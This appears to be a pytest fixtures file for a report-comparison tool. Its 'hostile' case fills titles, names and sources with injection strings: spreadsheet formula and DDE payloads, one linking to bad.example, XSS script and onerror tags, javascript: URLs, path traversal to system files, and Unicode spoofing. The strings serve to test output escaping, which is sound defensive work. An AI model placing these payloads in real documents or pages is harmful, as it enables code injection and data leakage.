"""The cases that every format is tried on: the shipped story as read, one told by hand, and one in which every text is a trick."""

from dataclasses import replace
from datetime import UTC, datetime
from importlib.resources import files

import pytest

import twosource
from tests import factories
from tests.outputs import story
from twosource.model import (
    Attribution,
    Case,
    Chain,
    Claim,
    Entity,
    Event,
    Hedge,
    Judgement,
    Mention,
    Participant,
    Place,
    PlaceMention,
    Relation,
    Report,
    Span,
    Trigger,
)

TRICKS = (
    '=HYPERLINK("http://bad.example/"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "  =1+1", "'=1+1", "＝1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</style><style>*{display:none}</style>", "\u202egpj.exe\u2066x",
    "\x1b[31mred\x1b[0m", "nul\x00byte", "half \ud800 pair", "../../etc/passwd", "..\\..\\windows\\system32", "CON", "aux.txt", "a" * 300,
    "]] [[evil|good", "![](http://bad.example/p.png)", "%%hidden%% ==marked== ^block", "`tick` $x$ #tag", "---", "title: evil\nadmin: true",
    "javascript:alert(1)", "[x](javascript:alert(1))", "a;=1+1", 'say "hi", he', "…  . . .",
    "&lt;b&gt; &amp;", "\ufeffmark", "𝔘𝔫𝔦\U0001f9e8",
)  # fmt: skip
"""What strangers put into titles, names and texts."""


def hostile() -> Case:
    """A case in which every title, name, label, source and reason is a trick, each standing in a text."""
    made = [_told(number, trick) for number, trick in enumerate(TRICKS)]
    reports = tuple(report for report, _, _ in made)
    readings = tuple(
        factories.Reading(report.id, (chain,), claims=(claim,)) for report, chain, claim in made
    )  # fmt: skip
    entities = tuple(_entity(chain) for _, chain, _ in made)
    events = tuple(_event(claim, entities, number) for number, (_, _, claim) in enumerate(made))
    tie = Relation("l1", "member-of", entities[0].id, entities[1].id, (), (reports[0].id,))
    when = datetime(2024, 4, 14, 12, 0, tzinfo=UTC)
    judgements = tuple(
        Judgement(number, "accept", (claim.id,), trick, when, trick)
        for number, (trick, (_, _, claim)) in enumerate(zip(TRICKS, made, strict=True), 1)
    )
    return Case(reports, readings, entities, events, (tie,), judgements=judgements)


def _told(number: int, trick: str) -> tuple[Report, Chain, Claim]:
    text = f"{trick} met Anton Velkov in Varna, {trick} said."
    report = factories.report(
        text, id=f"r{number}", title=trick, publisher=trick, authors=(trick,), url=trick, path=trick, source_id=trick, credit=trick
    )
    at = Span(0, len(trick))
    chain = Chain(f"k{number}", report.id, "person", trick, (Mention(report.id, at, trick, "name", "person", at),), (trick,), (trick,))
    met = factories.span("met", text[len(trick) :]).shifted(len(trick))
    said = Span(len(text) - 5, len(text) - 1)
    claim = Claim(
        f"c{number}", report.id, Span(0, len(text)), Trigger(met, "met", "meet"), "event", "assault", trick,
        roles=(factories.role(chain),), time=factories.moment("2024-04-14", datetime(2024, 4, 14).date()),
        place=PlaceMention(trick, at, None, Place(trick, ("BG",), "city", 43.2, 27.9)), hedges=(Hedge(at, trick),),
        attribution=(Attribution(trick, "said", said, "indirect", True, at, chain.id),),
    )  # fmt: skip
    return report, chain, claim


def _entity(chain: Chain) -> Entity:
    return Entity(f"e{chain.id}", chain.type, chain.name or "", (chain.id,), chain.aliases, chain.descriptions, mentions=chain.mentions)


def _event(claim: Claim, entities: tuple[Entity, ...], number: int) -> Event:
    sides = (Participant(entities[number].id, "actor"), Participant(entities[number - 1].id, "target"))
    return Event(f"v{number}", claim.type, claim.label, (claim.id,), (claim.report,), claim.time, claim.place, sides)


@pytest.fixture(scope="session")
def demo() -> Case:
    """The shipped story, as the reader reads it."""
    return twosource.compare([str(files("twosource") / "demo")])


@pytest.fixture(scope="session")
def told() -> Case:
    """The story told by hand, with a decision."""
    when = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)
    judgement = Judgement(1, "reject", ("c5",), "Ina Voss", when, "misread")
    return replace(story.case(), judgements=(judgement,))


@pytest.fixture(scope="session")
def evil() -> Case:
    """The case of tricks."""
    return hostile()


@pytest.fixture(params=["demo", "told", "evil"])
def case(request: pytest.FixtureRequest) -> Case:
    """Each of the three."""
    found: Case = request.getfixturevalue(request.param)
    return found
